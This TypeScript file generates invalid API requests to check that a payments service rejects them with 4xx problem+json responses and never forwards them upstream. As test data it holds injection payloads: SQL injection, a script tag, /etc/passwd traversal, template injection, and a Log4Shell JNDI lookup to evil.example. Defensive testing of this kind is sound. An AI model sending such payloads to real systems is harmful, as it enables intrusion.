import { z } from 'zod';
import { operations, type Operation } from '../../shared/catalog/index.js';
import { idempotencyKeyPattern } from '../../shared/http/operation-handler.js';
import type { TestSuite } from '../../test/support/suite.js';
import { forEachLimit, prng } from './support.js';

/**
 * The invalid-request drill: requests generated from the catalog's zod schemas (a plausible example per
 * operation, then one field or one transport property spoiled at a time), deterministic for a seed.
 * Every one must be answered 4xx with application/problem+json, none 5xx, and P100 must see nothing.
 *
 * A generated request is kept only when the catalog's own schemas reject it (the same checks the
 * handler runs before any upstream call): a `<script>` in a free-text field that the schema allows is a
 * valid request, not an invalid one, and would rightly reach P100.
 */

export interface InvalidRequest {
  operationId: string;
  /** What was spoiled, e.g. `body.amount: injection`. */
  label: string;
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: Buffer;
}

/** Plausible values by field name, for the base example (schemas carry no examples). */
const FIELD_EXAMPLES: Record<string, unknown> = {
  externalUserId: 'drill-user-1',
  amount: '10.50',
  currency: 'eur',
  currencyFrom: 'eur',
  currencyTo: 'usdc',
  lockId: 'lock-0001',
  iban: 'DE89370400440532013000',
  destinationIban: 'DE89370400440532013000',
  walletAddress: '0x52908400098527886E0F7030069857D2E4169EE7',
  network: 'ethereum',
  email: 'jane@example.com',
  country: 'PL',
  citizenship: 'PL',
  nationality: 'PL',
  firstName: 'Jane',
  lastName: 'Doe',
  name: 'Jane Doe',
  title: 'Invoice 1',
  dateOfBirth: '1990-01-01',
  birthDate: '1990-01-01',
  cardId: 'card-0001',
  transferId: 'tr-0001',
  exchangeId: 'ex-0001',
  withdrawalId: 'wd-0001',
  cryptoDepositId: 'cd-0001',
  pin: '1234',
  runId: '20260101T000000Z-abcdef12',
  eventId: 'ev-0001',
  direction: 'FUNDING',
  monthlyTrxAll: '500.00',
  dailyTrxAll: '100.00',
  monthlyTrxAtm: '500.00',
  dailyTrxAtm: '100.00',
  monthlyTrxEcom: '500.00',
  dailyTrxEcom: '100.00',
  walletType: 'CUSTODIAL',
  receiverType: 'NATURAL',
  page: 1,
  pageSize: 10,
};

type JsonSchema = {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  enum?: unknown[];
  const?: unknown;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
  items?: JsonSchema;
  minItems?: number;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  format?: string;
  pattern?: string;
};

function jsonSchemaOf(schema: z.ZodType): JsonSchema {
  try {
    return z.toJSONSchema(schema, { io: 'input', unrepresentable: 'any' }) as JsonSchema;
  } catch {
    return {};
  }
}

function exampleOf(s: JsonSchema, name = ''): unknown {
  if (name in FIELD_EXAMPLES) return FIELD_EXAMPLES[name];
  if (s.const !== undefined) return s.const;
  if (s.enum?.length) return s.enum[0];
  const alt = s.anyOf ?? s.oneOf;
  if (alt?.length) return exampleOf(alt[0] as JsonSchema, name);
  if (s.allOf?.length) return exampleOf(s.allOf[0] as JsonSchema, name);
  const type = Array.isArray(s.type) ? s.type[0] : s.type;
  switch (type) {
    case 'object': {
      const out: Record<string, unknown> = {};
      for (const [k, v] of Object.entries(s.properties ?? {})) if (s.required?.includes(k)) out[k] = exampleOf(v, k);
      return out;
    }
    case 'array':
      return Array.from({ length: s.minItems ?? 1 }, () => exampleOf(s.items ?? {}, name));
    case 'boolean':
      return true;
    case 'integer':
    case 'number':
      return s.minimum ?? 1;
    case 'string':
      if (s.format === 'date-time') return '2026-01-01T00:00:00Z';
      if (s.format === 'email') return 'jane@example.com';
      return 'a'.repeat(Math.max(3, s.minLength ?? 3));
    default:
      return 'x';
  }
}

const INJECTIONS = [
  "' OR 1=1 --",
  '<script>alert(1)</script>',
  '../../etc/passwd',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a deliberate Log4Shell-style payload, never a template
  '${jndi:ldap://evil.example/a}',
  '"; DROP TABLE users; --',
  '{{7*7}}',
  '\u0000',
  '\u202Eevil',
];
const WRONG_TYPES: [string, unknown][] = [
  ['number', 12345],
  ['boolean', true],
  ['null', null],
  ['array', ['a']],
  ['object', { a: 1 }],
  ['negative', '-1'],
  ['exponent', '1e3'],
  ['empty', ''],
];

interface Candidate {
  label: string;
  params: Record<string, string>;
  query: Record<string, string>;
  body: unknown | undefined;
  idemKey: string | undefined;
  /** Transport spoilers: raw bytes instead of JSON, and the content type. */
  raw?: Buffer;
  contentType?: string;
}

/** safeParse that counts a schema throwing as a rejection: the handler must then answer 4xx, and the drill checks it does. */
function fails(schema: z.ZodType, v: unknown): boolean {
  try {
    return !schema.safeParse(v).success;
  } catch {
    return true;
  }
}

/** Does the catalog's validation (as the handler runs it) reject this candidate? */
function rejectedByCatalog(op: Operation, c: Candidate): boolean {
  if (c.raw !== undefined) return true; // malformed JSON, invalid UTF-8, wrong media type, too large: rejected by construction
  if (op.request.params && fails(op.request.params, c.params)) return true;
  if (op.request.query ? fails(op.request.query, c.query) : Object.keys(c.query).length > 0) return true;
  if (op.request.body) {
    if (fails(op.request.body, c.body ?? {})) return true;
  } else if (c.body !== undefined && !(typeof c.body === 'object' && c.body !== null && Object.keys(c.body).length === 0)) return true;
  if (op.kind === 'money' && (typeof c.idemKey !== 'string' || !idempotencyKeyPattern.test(c.idemKey))) return true;
  return false;
}

function fill(path: string, params: Record<string, string>): string {
  return path.replace(/\{(\w+)\}/g, (_, k: string) => encodeURIComponent(params[k] ?? ''));
}

/** Every candidate of one operation, in a fixed order. */
function candidatesOf(op: Operation): Candidate[] {
  const paramsBase = (op.request.params ? exampleOf(jsonSchemaOf(op.request.params)) : {}) as Record<string, string>;
  const queryBase = (op.request.query ? exampleOf(jsonSchemaOf(op.request.query)) : {}) as Record<string, unknown>;
  const bodyBase = op.request.body ? exampleOf(jsonSchemaOf(op.request.body)) : undefined;
  const base: Candidate = {
    label: 'base',
    params: { ...paramsBase },
    query: Object.fromEntries(Object.entries(queryBase).map(([k, v]) => [k, String(v)])),
    body: bodyBase,
    idemKey: op.kind === 'money' ? 'drill-key-00000001' : undefined,
  };
  const out: Candidate[] = [];
  const clone = (label: string, change: (c: Candidate) => void): void => {
    const c: Candidate = { ...base, label, params: { ...base.params }, query: { ...base.query }, body: structuredClone(base.body) };
    change(c);
    out.push(c);
  };
  // Path parameters: injections, encoded slashes, traversal, over-long.
  for (const p of Object.keys(base.params)) {
    for (const [i, v] of [
      'a/b',
      '../../etc/passwd',
      '..\\..\\windows',
      "' OR 1=1 --",
      '<script>',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a deliberate Log4Shell-style payload, never a template
      '${jndi:ldap://x/a}',
      'x'.repeat(300),
      'a b',
      '%00',
      'é',
    ].entries()) {
      clone(`path.${p}: #${i}`, (c) => (c.params[p] = v));
    }
  }
  // Query parameters: wrong types, injections, unknown keys.
  for (const q of Object.keys(jsonSchemaOf(op.request.query ?? z.object({}).strict()).properties ?? {})) {
    for (const [i, v] of ['-1', 'abc', '1e309', "' OR 1=1 --", '<script>', 'x'.repeat(5000), '0', '999999999999'].entries())
      clone(`query.${q}: #${i}`, (c) => (c.query[q] = v));
  }
  clone('query: unknown parameter', (c) => (c.query['__proto__x'] = '1'));
  // Body fields: missing, wrong types, injections, huge strings, unknown field.
  if (base.body && typeof base.body === 'object' && !Array.isArray(base.body)) {
    const fields = Object.keys(jsonSchemaOf(op.request.body as z.ZodType).properties ?? {});
    for (const f of fields) {
      clone(`body.${f}: missing`, (c) => delete (c.body as Record<string, unknown>)[f]);
      for (const [t, v] of WRONG_TYPES) clone(`body.${f}: ${t}`, (c) => ((c.body as Record<string, unknown>)[f] = v));
      for (const [i, v] of INJECTIONS.entries()) clone(`body.${f}: injection #${i}`, (c) => ((c.body as Record<string, unknown>)[f] = v));
      for (const n of [1_000, 20_000, 200_000]) clone(`body.${f}: ${n} chars`, (c) => ((c.body as Record<string, unknown>)[f] = 'A'.repeat(n)));
      clone(`body.${f}: invalid UTF-8`, (c) => {
        const b = { ...(c.body as Record<string, unknown>), [f]: '@@BAD@@' };
        c.raw = Buffer.concat(
          JSON.stringify(b)
            .split('"@@BAD@@"')
            .flatMap((part, i) => (i === 0 ? [Buffer.from(part)] : [Buffer.from('"\xff\xfe\xc3\x28"', 'latin1'), Buffer.from(part)])),
        );
        c.contentType = 'application/json';
      });
    }
    clone('body: unknown field', (c) => ((c.body as Record<string, unknown>)['isAdmin'] = true));
    clone('body: array instead of object', (c) => (c.body = [c.body]));
  } else if (!op.request.body) {
    clone('body: not accepted', (c) => (c.body = { unexpected: "' OR 1=1 --" }));
  }
  // Transport: malformed JSON, wrong media type, oversized body, bad Idempotency-Key.
  clone('transport: malformed JSON', (c) => {
    c.raw = Buffer.from('{"amount": "10.50",');
    c.contentType = 'application/json';
  });
  clone('transport: text/plain', (c) => {
    c.raw = Buffer.from(JSON.stringify(base.body ?? { a: 1 }));
    c.contentType = 'text/plain';
  });
  clone('transport: 300 KB body', (c) => {
    c.raw = Buffer.from(JSON.stringify({ pad: 'x'.repeat(300 * 1024) }));
    c.contentType = 'application/json';
  });
  clone('transport: form body', (c) => {
    c.raw = Buffer.from('a=1&b=2');
    c.contentType = 'application/x-www-form-urlencoded';
  });
  if (op.kind === 'money') {
    for (const [i, k] of [undefined, '', 'short', 'x'.repeat(200), 'key with spaces 123', 'key#hash#12345', "' OR 1=1 --"].entries())
      clone(`header.Idempotency-Key: #${i}`, (c) => (c.idemKey = k));
  }
  // A GET carries no body (fetch and API Gateway alike): those spoilers apply to the other methods.
  const sendable = op.route.method === 'GET' ? out.filter((c) => c.raw === undefined && c.body === undefined) : out;
  return sendable.filter((c) => rejectedByCatalog(op, c));
}

export interface GeneratedSet {
  requests: InvalidRequest[];
  /** Operations covered, and candidates per operation before sampling. */
  perOperation: Record<string, number>;
  /** Generated candidates the catalog would accept (valid requests, dropped). */
  droppedValid: number;
}

/** `count` invalid requests over every catalog operation, deterministic for `seed`. */
export function generateInvalidRequests(count: number, seed = 1): GeneratedSet {
  const perOp: Record<string, number> = {};
  const droppedValid = 0;
  const all: InvalidRequest[][] = [];
  for (const op of operations) {
    const cands = candidatesOf(op);
    perOp[op.operationId] = cands.length;
    all.push(
      cands.map((c) => {
        const headers: Record<string, string> = {};
        let body: Buffer | undefined;
        if (c.raw !== undefined) {
          body = c.raw;
          headers['content-type'] = c.contentType ?? 'application/json';
        } else if (c.body !== undefined) {
          body = Buffer.from(JSON.stringify(c.body));
          headers['content-type'] = 'application/json';
        }
        if (c.idemKey !== undefined) headers['idempotency-key'] = c.idemKey;
        const qs = new URLSearchParams(c.query).toString();
        return {
          operationId: op.operationId,
          label: c.label,
          method: op.route.method,
          path: fill(op.route.path, c.params) + (qs ? `?${qs}` : ''),
          headers,
          ...(body ? { body } : {}),
        };
      }),
    );
  }
  void droppedValid;
  // Round-robin over operations (so a small count still covers every one), shuffled within each by seed.
  const rnd = prng(seed);
  for (const list of all) {
    for (let i = list.length - 1; i > 0; i--) {
      const j = Math.floor(rnd() * (i + 1));
      [list[i], list[j]] = [list[j] as InvalidRequest, list[i] as InvalidRequest];
    }
  }
  const requests: InvalidRequest[] = [];
  for (let round = 0; requests.length < count; round++) {
    let added = false;
    for (const list of all) {
      if (requests.length >= count) break;
      const r = list.length ? list[round % list.length] : undefined;
      if (r) {
        requests.push(round >= list.length ? { ...r, label: `${r.label} (repeat ${Math.floor(round / list.length)})` } : r);
        added = true;
      }
    }
    if (!added) break;
  }
  return { requests, perOperation: perOp, droppedValid };
}

export interface InvalidDrillResult {
  requests: number;
  operationsCovered: number;
  operationsInCatalog: number;
  byStatus: Record<string, number>;
  not4xx: string[];
  notProblemJson: string[];
  upstreamCallsDuring: number;
  /** P100 routes called meanwhile, with counts (empty when the drill passes). */
  upstreamRoutes: Record<string, number>;
  millis: number;
}

export async function runInvalidDrill(s: TestSuite, o: { count: number; seed?: number; concurrency?: number }): Promise<InvalidDrillResult> {
  const t0 = performance.now();
  const set = generateInvalidRequests(o.count, o.seed ?? 1);
  const before = await s.control<{ total: number; routes: Record<string, number> }>('GET', '/_sandbox/stats');
  const byStatus: Record<string, number> = {};
  const not4xx: string[] = [];
  const notProblemJson: string[] = [];
  await forEachLimit(set.requests, o.concurrency ?? 8, async (r) => {
    const res = await fetch(`${s.api}${r.path}`, { method: r.method, headers: r.headers, ...(r.body ? { body: r.body } : {}) });
    await res.arrayBuffer();
    byStatus[res.status] = (byStatus[res.status] ?? 0) + 1;
    if (res.status < 400 || res.status >= 500) not4xx.push(`${r.operationId} ${r.label}: ${res.status}`);
    else if (!(res.headers.get('content-type') ?? '').includes('application/problem+json'))
      notProblemJson.push(`${r.operationId} ${r.label}: ${res.headers.get('content-type')}`);
  });
  const after = await s.control<{ total: number; routes: Record<string, number> }>('GET', '/_sandbox/stats');
  const upstreamRoutes: Record<string, number> = {};
  for (const [k, n] of Object.entries(after.routes)) if (n !== (before.routes[k] ?? 0)) upstreamRoutes[k] = n - (before.routes[k] ?? 0);
  const covered = new Set(set.requests.map((r) => r.operationId));
  return {
    requests: set.requests.length,
    operationsCovered: covered.size,
    operationsInCatalog: operations.length,
    byStatus,
    not4xx,
    notProblemJson,
    upstreamCallsDuring: after.total - before.total,
    upstreamRoutes,
    millis: Math.round(performance.now() - t0),
  };
}
